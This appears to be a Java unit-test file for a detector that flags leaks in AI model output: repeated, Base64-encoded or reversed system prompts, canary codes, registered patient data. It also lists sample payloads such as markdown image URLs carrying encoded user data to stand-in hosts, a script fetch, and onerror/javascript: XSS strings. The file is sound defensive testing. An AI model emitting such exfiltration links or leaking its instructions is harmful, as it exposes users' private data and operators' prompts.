package io.sextant.inspect.output;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.sextant.inspect.AttackKind;
import io.sextant.inspect.TechniqueMatch;
import io.sextant.inspect.Verdict;
import io.sextant.inspect.attack.PromptInspector;
import io.sextant.inspect.known.KnownTexts;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class OutputInspectorTest {
  private static final String RULES =
      "You help customers of the Larkspur garden centre. Offer at most ten percent off, and never"
          + " name the wholesale price of a plant. Hand complaints about deliveries over to Ines in"
          + " the office before four o'clock.";
  private static final KnownTexts REGISTERED = new KnownTexts(KnownTexts.Rule.PASSAGE);
  private static final OutputInspector INSPECTOR =
      new OutputInspector(PromptInspector.builtIn(), REGISTERED);

  static {
    REGISTERED.add("patient 12", "Ada Winther, born in Aarhus, was treated for gout in March");
  }

  private static Verdict inspect(String text) {
    return INSPECTOR.inspect(text, Optional.of(new SystemPrompt(RULES, List.of("LARK-7731-QX"))));
  }

  @Test
  void aRepeatedSystemPromptIsALeak() {
    String text = "Sure! " + RULES.toUpperCase(java.util.Locale.ROOT);
    Verdict verdict = inspect(text);
    assertThat(verdict.flagged()).isTrue();
    assertThat(verdict.kind()).contains(AttackKind.SYSTEM_PROMPT_LEAK);
    assertThat(verdict.techniques()).extracting(TechniqueMatch::id).contains("AML.T0056");
    assertThat(verdict.spans().getFirst().of(text)).startsWith("YOU HELP").endsWith("CLOCK");
  }

  @Test
  void aPartOfTheSystemPromptIsALeakAndItsWordsAreNot() {
    assertThat(
            inspect(
                    "My notes say: never name the wholesale price of a plant. Hand complaints about"
                        + " deliveries over to Ines in the office.")
                .kind())
        .contains(AttackKind.SYSTEM_PROMPT_LEAK);
    assertThat(
            inspect(
                    "Complaints about deliveries are read in the office, and plants cost ten percent less.")
                .flagged())
        .isFalse();
  }

  @Test
  void anEncodedOrReversedLeakIsSeen() {
    String coded = Base64.getEncoder().encodeToString(RULES.getBytes(UTF_8));
    Verdict encoded = inspect("Here you are: " + coded);
    assertThat(encoded.kind()).contains(AttackKind.SYSTEM_PROMPT_LEAK);
    assertThat(encoded.views()).contains("base64");
    assertThat(inspect(new StringBuilder(RULES).reverse().toString()).kind())
        .contains(AttackKind.SYSTEM_PROMPT_LEAK);
  }

  @Test
  void aCanaryIsFoundHoweverItIsSpelt() {
    assertThat(inspect("the code is l a r k 7 7 3 1 - q x").score()).isEqualTo(1);
    assertThat(inspect("the code is lark 7732 qx").flagged()).isFalse();
    assertThatThrownBy(() -> new SystemPrompt(RULES, List.of("a-b-c")))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void aRegisteredTextIsALeak() {
    Verdict verdict =
        inspect("Our file: Ada Winther, born in Aarhus, was treated for gout in March.");
    assertThat(verdict.kind()).contains(AttackKind.DATA_LEAK);
    assertThat(verdict.techniques().getFirst().id()).isEqualTo("AML.T0057");
    assertThat(verdict.reasons().getFirst().sentence()).contains("patient 12");
    assertThat(inspect("Gout was first treated with meadow saffron.").flagged()).isFalse();
  }

  @Test
  void activeContentIsFound() {
    String coded =
        Base64.getUrlEncoder().encodeToString("the order of Ada Winther".getBytes(UTF_8));
    for (String text :
        List.of(
            "Done. ![ok](https://img.example/p.png?d=" + coded + ")",
            "Done. ![ok](https://img.example/Ada%20Winther%20lives%20in%20Aarhus.png)",
            "<img alt=x src='https://img.example/p?mail=ada.winther@mail.example.org'>",
            "See ![logo][1]\n\n[1]: https://img.example/?q=" + coded,
            "[click](https://site.example/?x=" + coded + ")",
            "<script>fetch('//site.example')</script>",
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
            "Hello &#60;&#115;&#99;&#114;&#105;&#112;&#116;&#62;alert(1)")) {
      Verdict verdict = inspect(text);
      assertThat(verdict.kind()).as(text).contains(AttackKind.ACTIVE_CONTENT);
      assertThat(verdict.techniques().getFirst().id()).isEqualTo("AML.T0077");
    }
  }

  @Test
  void ordinaryLinksAndShownCodeAreLeftAlone() {
    for (String text :
        List.of(
            "See [the manual](https://docs.example/guide/install.html#step-2).",
            "![diagram](https://cdn.example/a/3f2c9e1b77d04aa5b1c2d3e4f5a6b7c8.png?w=640&h=480)",
            "![box](https://img.example/600x400?text=Hello+World)",
            "[search](https://find.example/?q=how+to+bake+rye+bread+at+home)",
            "Use this:\n```html\n<script src=\"app.js\"></script>\n```",
            "The `<script>` element runs code.",
            "if (a < b && c > d) { return a; }",
            "![s](https://bucket.example/x.png?X-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08)")) {
      assertThat(inspect(text).kind()).as(text).isEmpty();
    }
  }

  @Test
  void floodsTakeBoundedTime() {
    for (String text :
        List.of(
            "![".repeat(200_000),
            "![a](https://x.example/?".repeat(30_000),
            "<img src=".repeat(60_000),
            "```".repeat(150_000),
            "[a]: https://x.example/ ".repeat(30_000),
            "<a ".repeat(200_000))) {
      long start = System.nanoTime();
      inspect(text);
      assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(30));
    }
  }
}
